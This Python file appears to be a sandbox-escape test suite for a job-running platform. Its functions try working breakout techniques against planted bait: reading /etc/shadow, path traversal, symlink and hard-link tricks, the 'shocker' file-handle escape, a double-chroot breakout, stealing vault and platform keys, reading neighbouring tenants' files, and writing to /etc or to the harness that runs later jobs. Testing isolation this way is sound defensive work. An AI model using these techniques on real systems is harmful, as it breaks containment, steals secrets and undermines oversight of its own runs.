"""Files of the host."""

import ctypes
import os
import sys

from escape_kit import Bait, StoppedError, attempt, call, each, find_mark, in_child, read_marked


@attempt()
def etc_shadow(_bait: Bait) -> str:
    """Read the host's password hashes in /etc/shadow."""
    with open("/etc/shadow") as file:
        return f"read {len(file.readlines())} lines"


@attempt(needs=("a file in the operator's home",))
def home_of_the_operator(bait: Bait) -> str:
    """Find a file of the operator's home folder."""
    return each(bait["home"], lambda path: f"found {path}: {os.lstat(path)}")


@attempt()
def file_of_the_host(bait: Bait) -> str:
    """Read a file of the host that every user may read."""
    return read_marked(bait["file"])


@attempt()
def file_by_dots(bait: Bait) -> str:
    """Read it by a path of many '..' from the working directory."""
    return read_marked("../" * 40 + bait["file"].lstrip("/"))


@attempt()
def file_by_symlink(bait: Bait) -> str:
    """Read it by a symbolic link in the working directory."""
    link = "link-to-the-bait"
    os.symlink(bait["file"], link)
    try:
        return read_marked(link)
    finally:
        os.unlink(link)


@attempt()
def file_by_hard_link(bait: Bait) -> str:
    """Make a hard link to it beside it, and read that."""
    link = f"{bait['file']}-link"
    os.link(bait["file"], link)
    try:
        return read_marked(link)
    finally:
        os.unlink(link)


@attempt()
def file_by_process_root(bait: Bait) -> str:
    """Read it by /proc/PID/root and /proc/PID/cwd of every process in sight."""
    pids = {1, bait["pid"], *(int(name) for name in os.listdir("/proc") if name.isdigit())}
    paths = [f"/proc/{pid}/{way}{bait['file']}" for pid in pids for way in ("root", "cwd/../../../../../..")]
    return each(paths, read_marked)


@attempt()
def file_by_inherited_descriptor(bait: Bait) -> str:
    """Read every descriptor that the process inherited, and files below those that are folders."""
    paths = []
    for name in os.listdir("/proc/self/fd"):
        path = f"/proc/self/fd/{name}"
        target = os.readlink(path) if os.path.lexists(path) else ""
        if target.startswith("/"):
            paths += [path, path + bait["file"]]
    return each(paths, read_marked)


@attempt()
def file_by_handle(bait: Bait) -> str:
    """Open it by its handle in the file system, past all mounts (the "shocker" of containers)."""
    raw = bytes.fromhex(bait["handle"])
    handle = ctypes.create_string_buffer(
        len(raw).to_bytes(4, sys.byteorder)
        + bait["handle_type"].to_bytes(4, sys.byteorder, signed=True)
        + raw,
        len(raw) + 8,
    )

    def through(path: str) -> str:
        mount = os.open(path, os.O_RDONLY)
        try:
            fd = call("open_by_handle_at", mount, handle, os.O_RDONLY)
            with open(fd, "rb") as file:
                return find_mark(file.read(4096), f"the handle through {path}")
        finally:
            os.close(mount)

    return each((bait["folder"], "/", "/usr", "/etc/ssl"), through)


@attempt()
def file_by_chroot(bait: Bait) -> str:
    """Break out of the root folder by a second chroot, as root can."""

    def climb() -> str:
        os.makedirs("cell/inner", exist_ok=True)
        try:
            call("chroot", b"cell")
            os.chdir("/")
            call("chroot", b"inner")  # the working directory is above the root now
            for _ in range(40):
                os.chdir("..")
            call("chroot", b".")
            return read_marked(bait["file"])
        finally:
            os.chdir("/")

    return in_child(climb)


@attempt()
def data_folder(bait: Bait) -> str:
    """List the data folder of the server: the one in use and one like it."""
    return each(bait["data_dirs"], lambda path: f"{path} holds {os.listdir(path)}")


@attempt()
def platform_key(bait: Bait) -> str:
    """Read the platform key."""
    return each(bait["data_dirs"], lambda path: read_marked(f"{path}/platform-key"))


@attempt()
def vault_key(bait: Bait) -> str:
    """Read the key of the secrets vault."""
    return each(bait["data_dirs"], lambda path: read_marked(f"{path}/vault-key"))


@attempt()
def database_files(bait: Bait) -> str:
    """Read the files of the embedded database."""
    return each(bait["data_dirs"], lambda path: read_marked(f"{path}/pg/PG_VERSION"))


@attempt(neighbour=True)
def files_of_other_sandboxes(bait: Bait) -> str:
    """Look for another tenant's files in every folder that sandboxes may write to."""
    for top in {"/work", "/tmp", "/dev/shm", "/var/tmp", "/run", bait["folder"]}:
        for folder, _, names in os.walk(top):
            for name in names:
                if name == "file-of-a-neighbour":
                    return read_marked(f"{folder}/{name}")
    raise StoppedError("there is none in any folder")


@attempt(check="planted")
def writing_to_the_host(bait: Bait) -> str:
    """Write into a folder of the host that every user may write to."""
    with open(bait["planted"], "w") as file:
        file.write("planted")
    return f"wrote {bait['planted']}"


def _write_beside(folder: str) -> str:
    path = f"{folder}/runwright-escape-test"
    fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600)
    os.close(fd)
    os.unlink(path)
    return f"made a file in {folder}"


@attempt()
def writing_to_usr(_bait: Bait) -> str:
    """Make a file in /usr/lib."""
    return _write_beside("/usr/lib")


@attempt()
def writing_to_etc(_bait: Bait) -> str:
    """Make a file in /etc, where ld.so.preload would be read by every program."""
    return _write_beside("/etc")


@attempt()
def writing_to_the_interpreter(_bait: Bait) -> str:
    """Make a file in the folder of the interpreter's library."""
    return _write_beside(os.path.dirname(os.__file__))


@attempt()
def changing_the_harness(bait: Bait) -> str:
    """Open the files that run the next jobs for writing."""
    paths = [f"{folder}/{name}" for folder in ("/harness", bait["harness"]) for name in bait["harness_files"]]

    def change(path: str) -> str:
        os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        return f"could write to {path}"

    return each(paths, change)


@attempt()
def replacing_the_harness(bait: Bait) -> str:
    """Put another file into the harness's folder."""
    return each(("/harness", bait["harness"]), _write_beside)


@attempt(bundle=True)
def symlink_in_a_bundle(bait: Bait) -> str:
    """Read the host's file by a symbolic link inside a bundle."""
    return read_marked(f"{bait['bundle']}/link")


@attempt(bundle=True)
def folder_symlink_in_a_bundle(bait: Bait) -> str:
    """Write to the host by a symbolic link to a folder inside a bundle."""
    return _write_beside(f"{bait['bundle']}/folder")


@attempt(bundle=True)
def writing_to_a_bundle(bait: Bait) -> str:
    """Change the files of the bundle, which the next jobs load."""
    return _write_beside(bait["bundle"])


@attempt(entrypoint="dots", check="planted", ends=("load_error",), bare="entrypoint")
def entrypoint_by_dots(bait: Bait) -> str:
    """Have the worker's code written to the host by an entrypoint of many '..'."""
    return f"its code lies at {os.stat(bait['planted'])}"


@attempt(entrypoint="absolute", check="planted", ends=("load_error",), bare="entrypoint")
def entrypoint_by_an_absolute_path(bait: Bait) -> str:
    """The same by an entrypoint that is an absolute path."""
    return f"its code lies at {os.stat(bait['planted'])}"


@attempt(bundle=True, entrypoint="link", ends=("load_error",), bare="entrypoint")
def entrypoint_by_a_symlink(_bait: Bait) -> str:
    """Have a file of the host run and shown as the entrypoint, by a symbolic link inside a bundle."""
    raise StoppedError("the bundle's own file ran")
